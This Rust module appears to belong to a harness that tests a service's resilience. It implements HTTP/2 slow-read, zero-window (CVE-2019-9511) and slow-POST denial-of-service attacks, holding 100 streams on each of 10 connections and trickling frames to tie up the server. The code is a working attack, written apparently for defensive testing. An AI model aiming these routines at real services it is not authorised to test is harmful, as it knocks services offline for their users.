//! Slowness over HTTP/2: much that is held for little.

use std::time::Duration;

use super::{
    field::{Tally, Target, Watch},
    frames::{Connection, DATA, INITIAL_WINDOW, WINDOW_UPDATE, frame, request, setting},
};

/// Connections of one attacker.
const CONNECTIONS: usize = 10;
/// Streams on each of them.
const STREAMS: u32 = 100;

/// Streams that are begun in a second.
const BEGUN: f64 = 500.0;

/// Connections with all their streams, and what is said on each stream in each turn of a second.
fn hold(
    target: &Target,
    watch: &Watch<'_>,
    window: u32,
    is_post: bool,
    path: &str,
    more: impl Fn(u32) -> Vec<u8>,
) -> Tally {
    let settings = setting(INITIAL_WINDOW, window);
    let mut held: Vec<Connection> = Vec::new();
    let mut tally = Tally::default();
    while held.len() < CONNECTIONS
        && watch
            .due(BEGUN / f64::from(STREAMS), held.len() as u64)
            .is_some()
    {
        let listener = if is_post { "impatient" } else { "public" };
        let Some(mut connection) = Connection::open(target.address(listener), &settings) else {
            break;
        };
        tally.connections += 1;
        for _ in 0..STREAMS {
            let stream = connection.next_stream();
            connection.line.say(&request(stream, is_post, path));
            tally.sent += 1;
        }
        held.push(connection);
    }
    watch.turns(Duration::from_millis(100), |turn| {
        for (at, connection) in held.iter_mut().enumerate() {
            connection.hear();
            // Each connection once a second; they do not agree on when.
            if at as u32 == turn % 10 {
                for stream in (0..STREAMS).map(|stream| 2 * stream + 1) {
                    let bytes = more(stream);
                    connection.line.say(&bytes);
                }
            }
        }
    });
    for mut connection in held {
        connection.hear();
        connection.count(&mut tally);
    }
    tally
}

/// Much is asked for, and nothing of it may be sent.
pub(super) fn zero_window(target: &Target, watch: &Watch<'_>) -> Tally {
    hold(target, watch, 0, false, "/attacked", |_| Vec::new())
}

/// The same, byte by byte (CVE-2019-9511).
pub(super) fn slow_read(target: &Target, watch: &Watch<'_>) -> Tally {
    hold(target, watch, 1, false, "/attacked", |stream| {
        frame(WINDOW_UPDATE, 0, stream, &[0, 0, 0, 1])
    })
}

/// The window stays shut for small answers of the service that others use, of which more are asked for than
/// it has permits.
pub(super) fn zero_window_beside(target: &Target, watch: &Watch<'_>) -> Tally {
    hold(target, watch, 0, false, "/product/1", |_| Vec::new())
}

/// The same, byte by byte.
pub(super) fn slow_read_beside(target: &Target, watch: &Watch<'_>) -> Tally {
    hold(target, watch, 0, false, "/product/1", |stream| {
        frame(WINDOW_UPDATE, 0, stream, &[0, 0, 0, 1])
    })
}

/// Bodies that come byte by byte, where they may do so for half a second.
pub(super) fn slow_posts(target: &Target, watch: &Watch<'_>) -> Tally {
    hold(target, watch, 65_535, true, "/attacked", |stream| {
        frame(DATA, 0, stream, b"x")
    })
}
